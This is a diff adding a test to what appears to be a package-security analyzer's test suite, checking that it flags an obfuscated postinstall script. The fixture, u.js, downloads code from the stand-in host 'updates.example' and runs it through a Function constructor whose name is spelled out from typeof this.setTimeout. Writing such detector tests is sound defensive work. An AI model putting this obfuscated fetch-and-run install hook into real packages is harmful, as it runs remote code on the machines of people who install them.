@@ -451,3 +451,16 @@ describe('typed text shaped like a recovery phrase', () => {
     expect(threatsOf(r)).toContain('data_exfiltration');
   });
 });
+
+describe('names built from typeof, through this', () => {
+  it('"Function" spelled from typeof of a method, reached on `this` of a sloppy callback, runs downloaded code', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ scripts: { postinstall: 'node u.js' } }),
+      'u.js': `(function () { var h = require('http');
+h.get({ host: 'updates.example', path: '/u.json' }, function (res) { var b = ''; res.on('data', function (d) { b += d; });
+  res.on('end', function () { var n = (typeof this.setTimeout).charAt(0).toUpperCase() + (typeof this.setTimeout).slice(1);
+    var F = this[n]; new F(b)(); }); }); })();`,
+    });
+    expect(threatsOf(r)).toContain('malicious_code');
+  });
+});
